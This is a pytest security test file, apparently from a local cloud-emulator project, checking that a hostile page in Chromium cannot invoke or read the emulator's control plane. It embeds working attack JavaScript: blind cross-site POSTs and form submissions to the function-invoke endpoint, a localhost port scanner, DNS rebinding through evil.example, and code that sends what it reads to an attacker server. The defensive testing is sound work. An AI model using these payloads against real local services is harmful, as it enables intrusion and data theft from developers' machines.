"""A web page in the developer's browser runs nothing and reads nothing. In a real one: Chromium."""

from __future__ import annotations

import json
import socket
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.clients.test_chromium import browsing, command
from tests.sites import Sites, payload
from tests.waiting import until

# Notes that it ran. Whoever can make the cloud run it can run anything.
TOUCHES = "def handler(event, context):\n    open({path!r}, 'a').write('ran ')\n    return 'the secret'\n"

# Tries what a page can try, then tells its own server what it could read.
PAGE = """<!doctype html><iframe name="frame"></iframe><script>
const read = [];
const control = "CONTROL", invoke = control + "/2015-03-31/functions/NAME/invocations";
async function blind(url, method) {
  try { await fetch(url, {method, mode: "no-cors", body: method == "POST" ? "{}" : undefined}); } catch (e) {}
}
async function readable(url) {
  try { read.push(await (await fetch(url)).text()); } catch (e) {}
}
async function form(url, target) {
  const form = document.createElement("form");
  Object.assign(form, {action: url, method: "POST", enctype: "text/plain", target});
  form.innerHTML = "<input name='{}' value=''>";
  document.body.append(form);
  const loaded = new Promise(resolve => { document.querySelector("iframe").onload = resolve; });
  form.submit();
  await Promise.race([loaded, new Promise(resolve => setTimeout(resolve, 3000))]);
}
async function attack() {
  await blind(invoke, "POST");
  for (const name of ["upload-recording", "replay-recording", "start-recording"])
    await blind(control + "/moto-api/recorder/" + name, "POST");
  await blind(control + "/_localalb/stop", "POST");
  await readable(control + "/_localalb/logs");
  await readable(control + "/2015-03-31/functions/");
  await readable(invoke);
  await form(invoke, "frame");
  await fetch("/done", {method: "POST", body: JSON.stringify(read)});
}
addEventListener("load", location.search == "?top" ? () => form(invoke, "_top") : attack);
</script>"""


# Tries every port of PORTS in each way by which a page can tell an answer from none, invokes on the way what
# it would run, then tells of each port what it saw.
SCAN = """<!doctype html><script>
const ports = PORTS, patience = 5000;
const within = promise =>
  Promise.race([promise, new Promise(done => setTimeout(() => done("silent"), patience))]);
const element = (tag, attributes) => within(new Promise(done => {
  const made = Object.assign(document.createElement(tag), attributes);
  made.onload = () => done("load");
  made.onerror = () => done("error");
  document.head.append(made);
}));
const call = (url, options) => within(fetch(url, options).then(() => "answer", error => error.name));
const socket = port => within(new Promise(done => {
  const made = new WebSocket("ws://127.0.0.1:" + port + "/");
  made.onopen = () => done("open");
  made.onclose = event => done("close " + event.code);
}));
const frame = url => within(new Promise(done => {
  const made = document.createElement("iframe");
  made.onload = () => {
    let inside;
    try { inside = made.contentDocument ? "ours" : "theirs"; } catch (error) { inside = error.name; }
    done(inside + " " + made.contentWindow.length);
  };
  made.src = url;
  document.body.append(made);
}));
async function look(port) {
  const url = "http://127.0.0.1:" + port + "/", invoke = url + "2015-03-31/functions/NAME/invocations";
  return Promise.all([
    call(url), call(url, {mode: "no-cors"}), call(invoke, {method: "POST", mode: "no-cors", body: "{}"}),
    call(url + "x".repeat(70000), {mode: "no-cors"}), call(url, {mode: "no-cors", credentials: "include"}),
    element("img", {src: url}), element("script", {src: url}), frame(url), socket(port),
    element("link", {rel: "stylesheet", href: url}),
  ]);
}
addEventListener("load", async () => {
  const seen = {};
  for (const port of ports) seen[port] = await look(port);
  await fetch("/done", {method: "POST", body: JSON.stringify(seen)});
});
</script><body></body>"""


class Evil(ThreadingHTTPServer):
    """The attacker's own server: serves the page and hears what it could read."""

    def __init__(self, page: str) -> None:
        self.page = page.encode()
        self.told: list[Any] = []
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(BaseHTTPRequestHandler):
    server: Evil

    def do_GET(self) -> None:
        self._answer(self.server.page)

    def do_POST(self) -> None:
        self.server.told.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextmanager
def evil(page: str) -> Iterator[Evil]:
    with Evil(page) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


REBOUND = "--host-resolver-rules=MAP evil.example 127.0.0.1"


@pytest.mark.parametrize("origin", ["http://127.0.0.1", "http://evil.example"])
def test_a_page_runs_nothing_and_reads_nothing(cloud: Sites, tmp_path: Path, origin: str) -> None:
    """Of another local port, and of a name. It knows our port, as if it had read it somewhere."""
    ran = tmp_path / "ran"
    name = cloud.name("function")
    cloud.function(TOUCHES.format(path=str(ran)), name=name)
    page = PAGE.replace("CONTROL", cloud.endpoint_url).replace("NAME", name)
    with evil(page) as server, browsing(f"{origin}:{server.server_port}/", REBOUND):
        assert until(lambda: server.told), "the page never came to its end"
    assert server.told == [[]], "what the page could read"
    assert not ran.exists()
    assert payload(cloud.functions.invoke(FunctionName=name)) == "the secret", "the attack could have worked"


def dumped(url: str) -> str:
    """The page that the browser shows in the end."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as home:
        line, environ = command(Path(home), "--virtual-time-budget=10000", REBOUND, "--dump-dom", url)
        return subprocess.run(line, env=environ, capture_output=True, text=True, timeout=60).stdout


def test_a_top_level_form_runs_nothing(cloud: Sites, tmp_path: Path) -> None:
    """The browser leaves the page for the answer, which Local Network Access does not stop."""
    ran = tmp_path / "ran"
    name = cloud.name("function")
    cloud.function(TOUCHES.format(path=str(ran)), name=name)
    refusal = "web pages may not speak to the control plane"
    with evil(PAGE.replace("CONTROL", cloud.endpoint_url).replace("NAME", name)) as server:
        url = f"http://evil.example:{server.server_port}/?top"
        # On a busy machine the browser may be through with its time before the form is on its way.
        assert until(lambda: refusal in dumped(url), 120), "the form was sent, and refused"
    assert not ran.exists()


def test_a_rebound_name_reads_nothing(cloud: Sites) -> None:
    """The page's own name becomes 127.0.0.1: for the browser all is one origin, and no Origin is sent."""
    port = urlsplit(cloud.endpoint_url).port
    shown = dumped(f"http://evil.example:{port}/2015-03-31/functions/")
    assert "the Host is" in shown
    assert "FunctionName" not in shown


@contextmanager
def silent() -> Iterator[int]:
    """A port that refuses every connection, as it is bound and nobody listens."""
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        yield taken.getsockname()[1]


@pytest.mark.parametrize("origin", ["http://127.0.0.1", "http://evil.example"])
def test_a_page_that_tries_all_ports_finds_none(cloud: Sites, tmp_path: Path, origin: str) -> None:
    """The control plane's looks like one where nobody listens; a server that answers pages does not."""
    ran = tmp_path / "ran"
    name = cloud.name("function")
    cloud.function(TOUCHES.format(path=str(ran)), name=name)
    control = urlsplit(cloud.endpoint_url).port
    assert control
    with silent() as nobody, evil("") as found, evil("") as server:
        ports = [*range(control - 4, control + 5), nobody, found.server_port]
        server.page = SCAN.replace("PORTS", str(ports)).replace("NAME", name).encode()
        with browsing(f"{origin}:{server.server_port}/", REBOUND):
            assert until(lambda: server.told, 120), "the page never came to its end"
    (seen,) = server.told
    assert seen[str(found.server_port)] != seen[str(nobody)], "the page can tell who answers"
    assert seen[str(control)] == seen[str(nobody)]
    assert not ran.exists()
    assert payload(cloud.functions.invoke(FunctionName=name)) == "the secret", "the scan could have run it"
